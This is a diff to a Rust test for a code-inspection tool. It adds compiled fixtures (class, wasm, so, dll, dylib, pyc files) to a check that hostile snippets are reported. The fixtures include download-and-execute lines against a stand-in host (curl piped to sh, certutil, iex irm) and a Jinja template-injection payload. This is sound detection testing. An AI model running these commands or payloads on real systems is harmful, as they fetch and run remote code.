@@ -112,30 +112,56 @@ fn hostile_names_and_content_reach_explain_and_inspect_as_text() {
 }
 
 /// Code of each language that models carry: a name, the source, and what its listing must show.
-const CODE: &[(&str, &str, &str)] = &[
-    ("a.py", "import os\nos.system('touch here')\n", "touch here"),
-    ("b.sh", "curl -s http://x.example/a | sh\n", "http://x.example/a"),
-    ("c.bat", "certutil -urlcache -f http://x.example/a a.exe & a.exe\r\n", "certutil"),
-    ("d.ps1", "iex (irm http://x.example/a)\n", "irm http"),
-    ("e.lua", "os.execute('touch here')\n", "os.execute"),
-    ("f.R", "system('touch here')\n", "system("),
-    ("g.jinja", "{{ cycler.__init__.__globals__.os.popen('touch here') }}\n", "__globals__"),
+const CODE: &[(&str, &[u8], &str)] = &[
+    ("a.py", b"import os\nos.system('touch here')\n", "touch here"),
+    ("b.sh", b"curl -s http://x.example/a | sh\n", "http://x.example/a"),
+    ("c.bat", b"certutil -urlcache -f http://x.example/a a.exe & a.exe\r\n", "certutil"),
+    ("d.ps1", b"iex (irm http://x.example/a)\n", "irm http"),
+    ("e.lua", b"os.execute('touch here')\n", "os.execute"),
+    ("f.R", b"system('touch here')\n", "system("),
+    ("g.jinja", b"{{ cycler.__init__.__globals__.os.popen('touch here') }}\n", "__globals__"),
+];
+
+/// What compilers made: a name, the bytes, and what the line of a finding must show, with the symbol or instruction.
+const COMPILED: &[(&str, &[u8], &[&str])] = &[
+    (
+        "a.class",
+        include_bytes!("../../formats/src/java/testdata/runs.class"),
+        &[">>>", "java.lang.Runtime.exec(", "curl -s http://x.example/a", "run+"],
+    ),
+    (
+        "b.wasm",
+        include_bytes!("../../formats/src/wasm/testdata/module.wasm"),
+        &[">>>", "import wasi_snapshot_preview1.sock_"],
+    ),
+    ("c.so", include_bytes!("../../formats/src/native/testdata/plain.so"), &[">>>", ".extern execve"]),
+    (
+        "d.dll",
+        include_bytes!("../../formats/src/native/testdata/plain.dll"),
+        &[">>>", ".extern CreateRemoteThread", "KERNEL32.dll"],
+    ),
+    ("e.dylib", include_bytes!("../../formats/src/native/testdata/plain.dylib"), &[">>>", ".extern posix_spawn"]),
+    ("f.pyc", include_bytes!("../../formats/testdata/python-bytecode/3.12.pyc"), &[">>>", "os.system("]),
 ];
 
 #[test]
 fn code_of_every_language_is_explained_alone_and_in_a_container() {
     let stage = Stage::new();
     let mut zip = testkit::zip::ZipWriter::new();
-    for (name, code, _) in CODE {
-        stage.write(name.as_bytes(), code.as_bytes());
-        zip = zip.stored(*name, code.as_bytes());
+    let compiled = COMPILED.iter().map(|(name, code, shown)| (*name, *code, shown.to_vec()));
+    let code: Vec<_> = CODE.iter().map(|(name, code, shown)| (*name, *code, vec![*shown])).chain(compiled).collect();
+    for (name, code, _) in &code {
+        stage.write(name.as_bytes(), code);
+        zip = zip.stored(*name, code);
     }
     stage.write(b"all.zip", &zip.finish());
-    for (name, _, shown) in CODE {
+    for (name, _, shown) in &code {
         for target in [(*name).to_owned(), format!("all.zip!/{name}")] {
             let ran = stage.run(&["explain", &target], &BTreeMap::new());
             assert!(matches!(ran.code, Some(0 | 1 | 3)), "{target}: {:?} {}", ran.code, ran.stderr());
-            assert!(ran.stdout().contains(shown), "{target}\n{}", ran.stdout());
+            for shown in shown {
+                assert!(ran.stdout().contains(shown), "{target}: {shown}\n{}", ran.stdout());
+            }
         }
     }
 }
